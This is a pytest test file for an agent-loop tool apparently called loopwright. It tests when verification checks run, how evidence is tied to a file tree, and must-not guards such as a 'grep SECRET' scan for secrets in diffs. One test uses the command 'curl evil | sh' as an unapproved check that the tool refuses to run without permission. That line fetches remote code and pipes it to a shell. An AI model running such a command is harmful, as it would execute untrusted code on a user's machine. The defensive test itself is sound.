"""Proving: when checks run, what their evidence holds for, and what must not be."""

import pytest

from loopwright.core import events as ev
from loopwright.core.criteria import Check, Criterion
from loopwright.core.directives import Ask, Continue, RunCheck, Stop
from loopwright.core.proof.clean_checkout import RoomRun
from loopwright.core.proof.state import Room
from tests.support.builders import (
    TREE,
    Story,
    a_loop,
    a_loop_without_checks,
    block,
    claim,
    failed,
    first_line,
    order,
    passed,
    proof,
    turn,
    with_check,
    without_check,
)

# --- When checks run ---


def test_the_quickest_check_runs_first():
    slow, quick = (
        with_check(name, proof=proof(name, tree="tree-0", seconds=seconds))
        for name, seconds in (("slow", 9.0), ("quick", 0.5))
    )
    story = Story(a_loop(criteria=(slow, quick, with_check("never run"))))

    story.turn(checks={"slow": True, "quick": True, "never run": True})

    assert story.checks_run == ["never run", "quick", "slow"]


def test_a_check_is_asked_for_with_its_round_its_fence_and_its_tree():
    story = Story(a_loop())

    wanted = story.tell(turn(tree="tree-7"))

    assert wanted == RunCheck(Check("pytest -q"), "tests pass", 1, story.loop.lease.fence, "tree-7")


def test_the_last_round_runs_what_was_proven_in_an_earlier_turn_once_more():
    story = Story(a_loop())
    story.turn(checks={"tests pass": True})

    end = story.turn(block({"tests pass": True}, exit=True), checks={"tests pass": True})
    assert end.reason == "complete"
    assert story.checks_run == ["tests pass", "tests pass"]


def test_a_check_that_fails_in_the_last_round_takes_the_claim_back():
    story = Story(a_loop())
    story.turn(checks={"tests pass": True})
    story.turn(block({"tests pass": True}, exit=True), checks={"tests pass": False})

    assert story.loop.status == "running"
    assert not story.loop.exit_claimed


def test_what_a_clean_checkout_has_repeated_is_not_repeated_in_place():
    shown = RoomRun("room", TREE, "passed")
    story = Story(a_loop(room=Room(status="trusted", runs=(shown,))))
    story.turn(checks={"tests pass": True})
    story.turn(block({"tests pass": True}, exit=True))

    assert story.checks_run == ["tests pass"]


def test_the_last_round_runs_what_must_not_be_and_what_is_held_out_once_more():
    """They passed in an earlier turn on this tree, and no clean checkout runs them."""
    shown = RoomRun("room", TREE, "passed")
    held_out = Criterion("no leaks", Check("(held out)", origin="holdout"), proof=proof("no leaks"))
    loop = a_loop(
        must_not=(with_check("no debug"),),
        final_checks=(held_out,),
        room=Room(status="trusted", runs=(shown,)),
    )
    story = Story(loop)
    story.tell(turn())
    while isinstance(story.directive, RunCheck):
        name = story.directive.criterion
        story.tell(passed(name) if name == "tests pass" else failed(name))
    before = len(story.checks_run)
    story.turn(block({"tests pass": True}, exit=True), checks={"no debug": False, "no leaks": True})

    assert story.checks_run[before:] == ["no debug", "no leaks"]
    assert story.loop.status == "finished"


def test_evidence_is_void_on_another_tree():
    story = Story(a_loop())
    story.turn(tree="tree-1", checks={"tests pass": True})

    assert isinstance(story.tell(turn("<loop-complete>", "tree-2")), RunCheck)


def test_an_unknown_tree_proves_nothing_twice():
    story = Story(a_loop())
    story.turn(tree="", checks={"tests pass": True})

    assert isinstance(story.tell(turn("<loop-complete>", "")), RunCheck)


@pytest.mark.parametrize(
    ("text", "again"),
    [
        pytest.param("I think about it", False, id="not without a claim"),
        pytest.param(
            block({"tests pass": True, "lint clean": False}), True, id="when it is claimed"
        ),
        pytest.param(
            block({"tests pass": False, "lint clean": True}),
            False,
            id="not when another is claimed",
        ),
        pytest.param("<loop-complete>", True, id="when the exit is claimed"),
    ],
)
def test_a_failing_check_runs_again_on_an_unchanged_tree(text, again):
    criteria = (
        with_check("tests pass", proof=proof("tests pass", fine=False)),
        with_check("lint clean", proof=proof("lint clean")),
    )
    story = Story(a_loop(criteria=criteria, tree=TREE))

    directive = story.tell(turn(text))

    assert isinstance(directive, RunCheck) == again


@pytest.mark.parametrize(
    ("seconds", "text", "runs"),
    [
        pytest.param(60.0, "", True, id="sixty seconds are not slow"),
        pytest.param(60.1, "", False, id="a slow check waits"),
        pytest.param(60.1, block({"tests pass": True}), True, id="for a claim of it"),
        pytest.param(60.1, "<loop-complete>", True, id="or for the exit"),
    ],
)
def test_a_slow_check_runs_only_when_it_is_claimed(seconds, text, runs):
    criterion = with_check("tests pass", proof=proof("tests pass", tree="tree-0", seconds=seconds))
    story = Story(a_loop(criteria=(criterion,)))

    directive = story.tell(turn(text))

    assert isinstance(directive, RunCheck) == runs
    assert runs or "tests pass: not run on this tree yet" in directive.prompt


def test_a_slow_check_that_was_not_run_refutes_nothing():
    story = Story(a_loop())
    story.tell(turn(block({"tests pass": True}), "tree-1"))
    story.tell(passed("tests pass", seconds=90.0))

    story.tell(turn("a small change", "tree-2"))

    assert story.loop.unmet_criteria == ("tests pass",)
    assert story.events_of(ev.ClaimRefuted) == []


def test_a_check_that_waits_for_leave_is_not_run():
    waiting = Criterion("tests pass", Check("curl evil | sh", origin="file", allowed=False))
    story = Story(a_loop(criteria=(waiting,)))

    directive = story.tell(turn())

    assert isinstance(directive, Ask), "no loop works while it has checks that may not run"
    assert directive.question == "1 check may not run yet: tests pass ← curl evil | sh. Allow?"
    assert "`loop allow`" in directive.message
    assert "`loop continue --unproven`" in directive.message


def test_a_criterion_whose_check_waits_for_leave_can_only_be_reported():
    waiting = Criterion("tests pass", Check("make test", origin="proposed", allowed=False))
    story = Story(a_loop(criteria=(waiting,), unproven=True))

    directive = story.tell(
        turn(block({"tests pass": {"met": True, "verification": "observation"}}, exit=True))
    )

    assert (directive.verdict.name, directive.verdict.proven) == ("MONITOR", False)
    assert (story.loop.criteria[0].proof.by, story.loop.criteria[0].proof.kind) == (
        "agent",
        "observation",
    )


def test_the_agent_is_shown_how_its_check_failed():
    story = Story(a_loop())
    story.tell(turn())

    directive = story.tell(failed("tests pass", detail="E   assert 1 == 2", code=3))

    assert "- tests pass: `pytest -q` exited 3\n  | E assert 1 == 2\n" in directive.prompt


def test_a_check_over_its_time_fails_as_timeout():
    story = Story(a_loop())
    story.tell(turn("<loop-complete>"))

    directive = story.tell(failed("tests pass", outcome="timeout", code=None))

    assert "`pytest -q` timeout" in directive.prompt
    assert not story.loop.exit_claimed


# --- Checks that change files ---


def test_a_check_that_moves_the_tree_is_run_once_more():
    story = Story(a_loop())
    story.tell(turn("<loop-complete>", "tree-1"))

    again = story.tell(passed("tests pass", left="tree-2", moved="coverage.xml"))
    assert (again.round, again.tree) == (2, "tree-2")
    done = story.tell(passed("tests pass"))

    assert (done.reason, story.loop.tree) == ("complete", "tree-2")


def test_a_check_that_moves_the_tree_twice_is_named_and_stays_unmet():
    story = Story(a_loop())
    story.tell(turn("<loop-complete>", "tree-1"))
    story.tell(passed("tests pass", left="tree-2", moved="coverage.xml"))

    directive = story.tell(passed("tests pass", left="tree-3", moved="coverage.xml"))

    assert first_line(directive) == "unmet criteria: tests pass"
    assert "changes files, so its result holds for no tree: coverage.xml" in directive.prompt
    assert "--volatile GLOB" in directive.prompt
    assert not story.loop.exit_claimed


def test_only_the_check_that_moves_the_tree_is_blamed():
    story = Story(a_loop(criteria=(with_check("tests pass"), with_check("lint clean"))))
    story.tell(turn("<loop-complete>", "tree-1"))
    story.tell(passed("tests pass", left="tree-2"))
    story.tell(passed("lint clean", left="tree-2"))
    story.tell(passed("tests pass", left="tree-3", moved="x"))

    directive = story.tell(passed("lint clean", left="tree-3"))

    assert first_line(directive) == "unmet criteria: tests pass"


def test_a_must_not_check_that_moves_the_tree_is_not_called_broken():
    story = Story(
        a_loop(
            criteria=(without_check("a"),),
            must_not=(with_check("touches the API", "grep api diff"),),
        )
    )
    story.tell(turn(tree="tree-1"))
    story.tell(failed("touches the API", left="tree-2", moved="notes.txt"))

    story.tell(failed("touches the API", left="tree-3", moved="notes.txt"))

    assert "notes.txt" in story.loop.pause.why


def test_a_criterion_removed_while_its_check_moved_the_tree_breaks_nothing():
    story = Story(a_loop(criteria=(with_check("tests pass"), with_check("lint clean"))))
    story.tell(turn(tree="tree-1"))
    story.tell(passed("tests pass", left="tree-2"))
    story.tell(passed("lint clean", left="tree-2"))
    wanted = story.tell(passed("tests pass", left="tree-3"))
    story.tell(order("criteria", criteria=(with_check("lint clean"),)))
    story.directive = wanted

    story.tell(passed("lint clean", left="tree-3"))

    assert [c.name for c in story.loop.criteria] == ["lint clean"]


# --- mustNot ---


def guarded(**changes):
    return Story(
        a_loop(
            criteria=(without_check("a"),),
            must_not=(with_check("secrets in the diff", "grep SECRET"),),
            **changes,
        )
    )


@pytest.mark.parametrize(
    ("result", "why"),
    [
        pytest.param(
            passed("secrets in the diff"),
            "must not: secrets in the diff",
            id="exit 0 is a violation",
        ),
        pytest.param(
            failed("secrets in the diff", "not found", outcome="missing", code=127),
            "cannot be checked (not found)",
            id="127",
        ),
        pytest.param(
            failed("secrets in the diff", "not executable", outcome="missing", code=126),
            "cannot be checked (not executable)",
            id="126",
        ),
        pytest.param(
            failed("secrets in the diff", "[stopped]", outcome="timeout", code=None),
            "cannot be checked ([stopped])",
            id="timeout",
        ),
    ],
)
def test_must_not_pauses_at_once(result, why):
    story = guarded()
    story.tell(turn(block({"a": True}, exit=True)))

    directive = story.tell(result)

    assert story.loop.status == "paused"
    assert why in directive.reason
    assert story.events_of(ev.BreakerTripped)[0].name == "must-not"


@pytest.mark.parametrize("code", [1, 2, 125, 255])
def test_must_not_holds_when_its_check_exits_otherwise(code):
    story = guarded()
    story.tell(turn(block({"a": True}, exit=True)))

    assert story.tell(failed("secrets in the diff", code=code)).reason == "complete"


def test_must_not_is_looked_at_only_where_the_tree_has_changed():
    story = guarded()
    story.tell(turn(tree="tree-1"))
    story.tell(failed("secrets in the diff"))

    assert isinstance(story.tell(turn(tree="tree-1")), Continue)
    assert isinstance(story.tell(turn(tree="tree-2")), RunCheck)


def test_must_not_without_a_command_is_broken_by_the_agents_own_word():
    story = Story(
        a_loop(criteria=(without_check("a"),), must_not=(without_check("touch the API"),))
    )

    directive = story.tell(turn(block({"a": True}, "MUST_NOT: touch the API", exit=True)))

    assert (story.loop.status, story.loop.pause.cause, directive.reason) == (
        "paused",
        "must-not",
        "must not: touch the API",
    )


def test_must_not_is_broken_by_a_claim_at_once():
    story = Story(a_loop_without_checks("a"))

    story.tell(claim(must_not=("touch the API",)))

    assert (story.loop.status, story.loop.pause.why) == ("paused", "must not: touch the API")


# --- Evidence that comes too late ---


def test_a_check_and_a_cancel_in_between():
    story = Story(a_loop(criteria=(with_check("tests pass"), with_check("lint clean"))))
    story.tell(turn("<loop-complete>"))
    wanted = story.tell(passed("tests pass"))
    story.tell(order("cancel"))
    story.directive = wanted

    assert story.tell(passed("lint clean")) == Stop()
    assert story.loop.status == "cancelled"
    assert story.events_of(ev.CheckResultDropped)


def test_a_round_that_is_over_hears_no_more_evidence():
    story = Story(a_loop())
    wanted = story.tell(turn())
    story.tell(failed("tests pass"))
    story.directive = wanted

    assert story.tell(passed("tests pass")) == Stop()
    assert not story.loop.criteria[0].proof.passed


def test_evidence_that_comes_while_a_question_is_open_is_dropped():
    story = Story(a_loop())
    wanted = story.tell(turn("<loop-complete>"))
    story.tell(claim(ask="which port?"))
    story.directive = wanted

    assert story.tell(passed("tests pass")) == Stop()
    assert story.loop.status == "asking"
